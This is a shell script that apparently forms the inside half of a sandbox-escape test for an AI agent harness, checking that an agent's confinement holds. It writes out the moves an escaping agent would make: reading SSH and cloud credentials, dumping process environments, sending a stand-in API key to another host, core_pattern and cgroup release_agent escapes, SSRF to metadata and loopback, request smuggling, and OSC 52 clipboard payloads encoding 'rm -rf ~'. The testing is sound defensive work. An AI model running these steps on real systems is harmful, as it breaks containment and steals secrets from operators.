# The inside half of the escape test (escape.sh), run by busybox sh in a real session of
# the shell harness with `sh ./escape_inside.sh` in the project. Each attempt is what an
# agent trying to get out would do, and prints one line: "HELD group/name" when it did
# not work, "BROKEN group/name: what happened" when it did. Some attempts leave their
# evidence for the host to judge instead: files the host searches for the real key
# (*.dump) and lines it reads ("TERM name <...>", "ANSWER ...").
#
# escape.env (written by escape.sh) says where things are on the host: real_home, work,
# handler_home, other_project, data_dir, config_dir, runtime_dir, host_tmp_marker,
# own_address, api_port, tls_port, plain_port, handlerd_pid, abstract_socket.
# shellcheck disable=SC2154 # the variables come from escape.env
. ./escape.env
project=$(pwd)

say() { if [ -n "${3:-}" ]; then echo "$1 $2: $3"; else echo "$1 $2"; fi; }
held() { say HELD "$1"; }
broken() { say BROKEN "$1" "$(printf '%s' "$2" | tr '\n' ' ' | head -c 300)"; }
# fails NAME COMMAND...: holds when the command fails.
fails() {
  name=$1; shift
  if out=$("$@" 2>&1 </dev/null); then broken "$name" "it worked: $out"; else held "$name"; fi
}
# absent NAME PATH...: holds when none of the paths is there.
absent() {
  name=$1; shift
  for path in "$@"; do
    if [ -e "$path" ] || [ -L "$path" ]; then broken "$name" "$path is visible"; return; fi
  done
  held "$name"
}
# A raw request to the egress proxy, one line per argument; prints its status line.
proxy() {
  { for line in "$@"; do printf '%s\r\n' "$line"; done; printf '\r\n'; } |
    nc -w 5 127.0.0.1 3128 2>/dev/null | head -n 1 | tr -d '\r'
}
# refused NAME LINE...: holds when the proxy refuses the request (403, or 400 for one it
# cannot read). Anything else, a 502 included, means the policy let it through.
refused() {
  name=$1; shift
  status=$(proxy "$@")
  case "$status" in
    "HTTP/1.1 403"*|"HTTP/1.1 400"*) held "$name" ;;
    *) broken "$name" "the proxy answered '$status' to $1" ;;
  esac
}
connect() { refused "$1" "CONNECT $2 HTTP/1.1" "Host: $2"; }
# stays_closed NAME HOST PORT: holds when no TCP connection opens.
stays_closed() { fails "$1" nc -w 2 "$2" "$3"; }

# What the attempts run: one that is missing would fail for that reason and read as held.
for tool in nc nslookup curl awk timeout ls cat head; do
  command -v "$tool" >/dev/null || echo "MISSING $tool"
done
for applet in find mknod ping mount chroot nsenter setpriv unshare df; do
  busybox --list | grep -qx "$applet" || echo "MISSING busybox $applet"
done
[ -x ./escape_probe ] || echo "MISSING escape_probe"

echo "== files"
listing=$(ls -A "$real_home" | tr '\n' ' ')
if [ "$listing" = "$(basename "$work") " ]; then held files/host-home; else broken files/host-home "the home folder holds: $listing"; fi
absent files/user-ssh "$handler_home/.ssh" "$handler_home/.ssh/id_escape"
absent files/user-cloud-keys "$handler_home/.aws/credentials" "$handler_home/.gnupg" "$handler_home/.config/gcloud"
absent files/other-project "$other_project" "$other_project/secret.txt"
absent files/handler-data "$data_dir" "$data_dir/handler.db" "$data_dir/tls/ca.key" "$data_dir/secrets"
absent files/handler-config "$config_dir/config.toml"
absent files/podman-socket "$runtime_dir/podman/podman.sock" "/run/user/$(id -u)/podman/podman.sock"
if [ -e "$runtime_dir/handler/handlerd.sock" ]; then
  broken files/api-socket "handlerd's socket is visible"
else
  fails files/api-socket curl -sS -m 3 --unix-socket "$runtime_dir/handler/handlerd.sock" http://handler/api/v1/status
fi
fails files/proc-1-root cat "/proc/1/root$other_project/secret.txt"
absent files/host-tmp "$host_tmp_marker"
# Host paths named in /proc/self/mountinfo (the sources of bind mounts, podman's storage
# layers) lead nowhere inside, but for the project, which is mounted at its own path.
mount_paths=$(awk '{ for (i = 7; $i != "-"; i++); type = $(i + 1); source = $(i + 2); options = $(i + 3)
  if (source ~ /^\/dev\// && $4 != $5) print $4
  if (type == "overlay") { n = split(options, parts, /[,:]/); for (j = 1; j <= n; j++) {
    sub(/^(lowerdir|upperdir|workdir)=/, "", parts[j]); if (parts[j] ~ /^\//) print parts[j] } } }' /proc/self/mountinfo)
seen=""
for path in $mount_paths; do [ -e "$path" ] && seen="$seen $path"; done
if [ -z "$mount_paths" ]; then broken files/mountinfo-paths "mountinfo named no host path (the parse failed)"
elif [ -n "$seen" ]; then broken files/mountinfo-paths "reachable:$seen"
else held files/mountinfo-paths; fi
# No host folder is mounted writable but the project (and podman's own per-container files).
writable=$(awk -v project="$project" '{ for (i = 7; $i != "-"; i++); source = $(i + 2)
  if (source ~ /^\/dev\// && $6 ~ /^rw/ && $5 != project && $5 != "/etc/hosts" && $5 != "/etc/hostname" &&
      $5 != "/etc/resolv.conf" && $5 != "/run/.containerenv") print $5 }' /proc/self/mountinfo)
if [ -z "$writable" ]; then held files/writable-host-mounts; else broken files/writable-host-mounts "writable: $writable"; fi
# Only the harmless character devices; no block device, no /dev/mem, /dev/kmsg, /dev/fuse.
devices=$(busybox find /dev \( -type b -o -type c \) 2>/dev/null | while read -r node; do
  case "$(basename "$node")" in null|zero|full|random|urandom|tty|console|ptmx) ;; *) echo "$node" ;; esac
done | tr '\n' ' ')
if [ -z "$devices" ]; then held files/device-nodes; else broken files/device-nodes "$devices"; fi
fails files/mknod busybox mknod /tmp/disk b 254 0
fails files/shim-readonly sh -c 'touch /opt/handler/planted || cp /bin/busybox /opt/handler/handler-shim'
fails files/control-dir sh -c 'touch /run/handler/planted || rm /run/handler/control.sock'
fails files/uevent-helper sh -c 'echo /tmp/run-on-host > /sys/kernel/uevent_helper'
fails files/core-pattern sh -c 'echo "|/tmp/run-on-host" > /proc/sys/kernel/core_pattern'
fails files/sysrq sh -c 'echo h > /proc/sysrq-trigger'
fails files/cgroup-release-agent sh -c 'for agent in /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/release_agent; do
  [ -e "$agent" ] && echo /tmp/run-on-host > "$agent" && exit 0; done
  mkdir /sys/fs/cgroup/memory/escape || mkdir /sys/fs/cgroup/escape'
fails files/kcore head -c 1 /proc/kcore

echo "== keys"
echo "STAND_IN $ANTHROPIC_API_KEY"
cat /proc/[0-9]*/environ > "$project/env.dump" 2>/dev/null
busybox find / /tmp /home/agent /run /dev/shm -xdev -type f 2>/dev/null |
  while read -r file; do cat "$file"; done > "$project/files.dump" 2>/dev/null
cat /run/handler/* > "$project/control.dump" 2>/dev/null
echo "ANSWER $(curl -sS https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}' 2>&1)"
# The stand-in towards another allowed host, in a header, the query and the body; and in
# clear HTTP to the key's own host, which must not get the real key put in.
curl -sS -m 5 "http://other.test:$plain_port/collect-header" -H "x-api-key: $ANTHROPIC_API_KEY" >/dev/null 2>&1
curl -sS -m 5 "http://other.test:$plain_port/collect-query?key=$ANTHROPIC_API_KEY" >/dev/null 2>&1
curl -sS -m 5 "http://other.test:$plain_port/collect-body" -d "key=$ANTHROPIC_API_KEY" >/dev/null 2>&1
curl -sS -m 5 "http://api.anthropic.com:$plain_port/cleartext" -H "x-api-key: $ANTHROPIC_API_KEY" >/dev/null 2>&1

echo "== direct egress"
interfaces=$(ls /sys/class/net | tr '\n' ' ')
if [ "$interfaces" = "lo " ]; then held egress/interfaces; else broken egress/interfaces "interfaces: $interfaces"; fi
stays_closed egress/tcp-out 1.1.1.1 80
fails egress/udp-dns nslookup -timeout=2 example.com 1.1.1.1
fails egress/resolver nslookup -timeout=2 example.com
fails egress/icmp busybox ping -c 1 -W 2 1.1.1.1
stays_closed egress/ipv6 2606:4700:4700::1111 80
stays_closed egress/handlerd-tcp 127.0.0.1 "$api_port"
stays_closed egress/handlerd-tcp-v6 ::1 "$api_port"
stays_closed egress/host-loopback 127.0.0.1 "$plain_port"
stays_closed egress/slirp-gateway 10.0.2.2 "$api_port"
stays_closed egress/host-alias host.containers.internal "$api_port"
fails egress/around-the-proxy env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy \
  curl -sS -m 3 -o /dev/null https://api.anthropic.com/
fails egress/abstract-socket curl -sS -m 3 --abstract-unix-socket "$abstract_socket" http://host/
# The proxy's port is the shim's: nobody else can listen there and hear other programs.
out=$(timeout 2 busybox nc -l -p 3128 2>&1 </dev/null)
case $? in 1) held egress/proxy-port ;; *) broken egress/proxy-port "a listener took port 3128: $out" ;; esac

echo "== the proxy's names and addresses"
refused proxy/not-allowed "GET http://blocked.test:$plain_port/ HTTP/1.1" "Host: blocked.test:$plain_port"
connect proxy/ip-literal "1.1.1.1:443"
connect proxy/localhost "localhost:$api_port"
connect proxy/localhost-variants "LocalHost.:$api_port"
connect proxy/loopback "127.0.0.1:$api_port"
connect proxy/loopback-v6 "[::1]:$api_port"
connect proxy/unspecified "0.0.0.0:$api_port"
connect proxy/metadata "169.254.169.254:80"
refused proxy/metadata-plain "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1" "Host: 169.254.169.254"
connect proxy/decimal-ip "2130706433:$api_port"
connect proxy/octal-ip "0177.0.0.1:$api_port"
connect proxy/hex-ip "0x7f.0.0.1:$api_port"
connect proxy/short-ip "127.1:$api_port"
connect proxy/mapped-v6 "[::ffff:127.0.0.1]:$api_port"
connect proxy/zone-v6 "[fe80::1%25lo]:$api_port"
refused proxy/plain-to-handlerd "GET http://127.0.0.1:$api_port/api/v1/status HTTP/1.1" "Host: 127.0.0.1:$api_port"
refused proxy/userinfo "GET http://allowed.test:$plain_port@127.0.0.1:$api_port/ HTTP/1.1" "Host: 127.0.0.1:$api_port"
refused proxy/percent-encoded "GET http://127%2e0%2e0%2e1:$api_port/ HTTP/1.1" "Host: 127.0.0.1:$api_port"
connect proxy/allowed-name-other-port "allowed.test:$api_port"
# The host's own address on its network, where more of its services listen.
connect proxy/own-address "$own_address:$api_port"
# The Host header does not pick where a plain request goes: it reaches the upstream of
# the URL (or is refused), never handlerd, whose errors are {"error":{"code":...}}.
answer=$({ printf 'GET http://allowed.test:%s/host-header HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nConnection: close\r\n\r\n' \
  "$plain_port" "$api_port"; } | nc -w 5 127.0.0.1 3128 2>&1 | tr -d '\r' | tr '\n' ' ')
case "$answer" in *'{"error":{"code"'*) broken proxy/host-header-plain "handlerd answered: $answer" ;; *) held proxy/host-header-plain ;; esac

echo "== the proxy's names, checked by the new proxy (sec-proxy)"
code=$(curl -sS -o /dev/null -w '%{http_code}' https://api.anthropic.com/v1/messages -H "Host: other.test" \
  -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}' 2>&1)
if [ "$code" = 421 ]; then held proxy-names/intercepted-host; else broken proxy-names/intercepted-host "answered $code"; fi
codes=$(curl -sS -o /dev/null -w '%{http_code} ' https://api.anthropic.com/v1/models --next -o /dev/null \
  -w '%{http_code}' -H "Host: other.test" https://api.anthropic.com/v1/models 2>&1)
case "$codes" in *" 421") held proxy-names/keep-alive-host ;; *) broken proxy-names/keep-alive-host "answered $codes" ;; esac
code=$(curl -sS -k -m 5 -o /dev/null -w '%{http_code}' --connect-to "blocked.test:$tls_port:allowed-tls.test:$tls_port" \
  "https://blocked.test:$tls_port/sni" 2>/dev/null)
case "$code" in 000|"") held proxy-names/sni ;; *) broken proxy-names/sni "a ClientHello for blocked.test went through a tunnel to allowed-tls.test ($code)" ;; esac
refused proxy-names/cl-te "POST http://allowed.test:$plain_port/smuggle HTTP/1.1" "Host: allowed.test:$plain_port" \
  "Content-Length: 4" "Transfer-Encoding: chunked"
refused proxy-names/two-lengths "POST http://allowed.test:$plain_port/smuggle HTTP/1.1" "Host: allowed.test:$plain_port" \
  "Content-Length: 0" "Content-Length: 40"
refused proxy-names/obs-fold "GET http://allowed.test:$plain_port/fold HTTP/1.1" "Host: allowed.test:$plain_port" \
  "X-Folded: a" " b"
# A request pipelined after a refused CONNECT: the host checks that it never reached the upstream.
proxy "CONNECT blocked.test:80 HTTP/1.1" "" "GET http://allowed.test:$plain_port/pipelined HTTP/1.1" \
  "Host: allowed.test:$plain_port" >/dev/null

echo "== privileges"
status=$(cat /proc/self/status)
caps=$(printf '%s\n' "$status" | awk '/^Cap(Inh|Prm|Eff|Amb):/ && $2 != "0000000000000000" { print $1 $2 }' | tr '\n' ' ')
if [ -z "$caps" ]; then held privileges/capabilities; else broken privileges/capabilities "$caps"; fi
bounding=$(printf '%s\n' "$status" | awk '/^CapBnd:/ { print $2 }')
if [ "$bounding" = 0000000000000000 ]; then held privileges/bounding-set; else broken privileges/bounding-set "CapBnd $bounding"; fi
nnp=$(printf '%s\n' "$status" | awk '/^NoNewPrivs:/ { print $2 }')
if [ "$nnp" = 1 ]; then held privileges/no-new-privs; else broken privileges/no-new-privs "NoNewPrivs $nnp"; fi
# A setuid-root program in the image (the escape image has one) does not make anyone root.
if [ ! -u /bin/suid-busybox ]; then broken privileges/setuid-root "the image has no setuid-root program to try"
elif [ "$(/bin/suid-busybox id -u 2>&1)" = 0 ]; then broken privileges/setuid-root "it ran as root"
else held privileges/setuid-root; fi
fails privileges/setuid busybox setpriv --reuid=0 --regid=0 --clear-groups id -u
fails privileges/mount busybox mount -t tmpfs escape /tmp
fails privileges/chroot busybox chroot / true
fails privileges/setns busybox nsenter -t 1 -m -u -i -n -p true
fails privileges/signal-handlerd kill -0 "$handlerd_pid"

echo "== namespaces and kernel surface (sec-confine)"
fails confine/unshare-root busybox unshare -Urn id -u
for call in unshare-user clone-user clone3-user keyctl add_key bpf userfaultfd perf_event_open io_uring_setup ptrace-parent; do
  if out=$(./escape_probe "$call" 2>&1); then held "confine/$call"; else broken "confine/$call" "$out"; fi
done

echo "== limits"
total_kb=$(awk '/^MemTotal:/ { print $2 }' /proc/meminfo)
# size_of MOUNT: its size in KiB.
size_of() { busybox df -k "$1" | awk 'NR == 2 { print $2 }'; }
for mount in /tmp /home/agent /dev/shm; do
  size=$(size_of "$mount")
  name=limits/$(basename "$mount")-size
  # A tmpfs without a size gets half the memory: whoever fills it takes that from everyone.
  if [ -n "$size" ] && [ "$size" -lt $((total_kb / 2 - 1024)) ]; then held "$name"
  else broken "$name" "$mount holds $size KiB of $total_kb KiB of memory"; fi
done
processes=$(awk '/^Max processes/ { print $3 }' /proc/self/limits)
pids_max=$(cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null | head -n 1)
if [ "$processes" != unlimited ] || { [ -n "$pids_max" ] && [ "$pids_max" != max ]; }; then held limits/processes
else broken limits/processes "no process limit (RLIMIT_NPROC $processes, pids.max ${pids_max:-absent})"; fi
memory=$(cat /sys/fs/cgroup/memory.max /sys/fs/cgroup/memory/memory.limit_in_bytes 2>/dev/null | head -n 1)
address_space=$(awk '/^Max address space/ { print $4 }' /proc/self/limits)
data=$(awk '/^Max data size/ { print $4 }' /proc/self/limits)
if { [ -n "$memory" ] && [ "$memory" != max ] && [ "$memory" -lt $((total_kb * 1024)) ]; } ||
   [ "$address_space" != unlimited ] || [ "$data" != unlimited ]; then held limits/memory
else broken limits/memory "no memory limit (cgroup ${memory:-absent}, RLIMIT_AS $address_space, RLIMIT_DATA $data)"; fi

echo "== terminal sequences (the host judges what its clients got)"
# term NAME FORMAT: the sequence between <>; a client's terminal must get "<>".
term() { printf 'TERM %s <' "$1"; printf "$2"; printf '>\n'; }
term sgr '\033[31mred\033[0m'
term osc52-set '\033]52;c;cm0gLXJmIH4K\007'
term osc52-query '\033]52;c;?\033\\'
term osc52-8bit '\23552;c;cm0gLXJmIH4K\234'
term osc52-utf8-c1 '\302\23552;c;cm0gLXJmIH4K\302\234'
printf 'TERM osc52-split <\033]52;c;cm0g'; sleep 0.5; printf 'LXJmIH4K\007>\n'
term title-report '\033[21t\033[20t'
term window-ops '\033[8;1;1t\033[3;0;0t\033[14t'
term colour-query '\033]11;?\007\033]4;1;?\007'
term decrqss '\033P$qm\033\\'
term xtgettcap '\033P+q544e\033\\'
term tmux-passthrough '\033Ptmux;\033\033]52;c;cm0gLXJmIH4K\007\033\\'
term decudk '\033P0;1|17/726d202d7266\033\\'
term kitty-file '\033_Ga=T,t=f;L2V0Yy9wYXNzd2Q=\033\\'
term iterm-download '\033]1337;File=name=eA==;inline=0:eA==\007'
echo "== done"
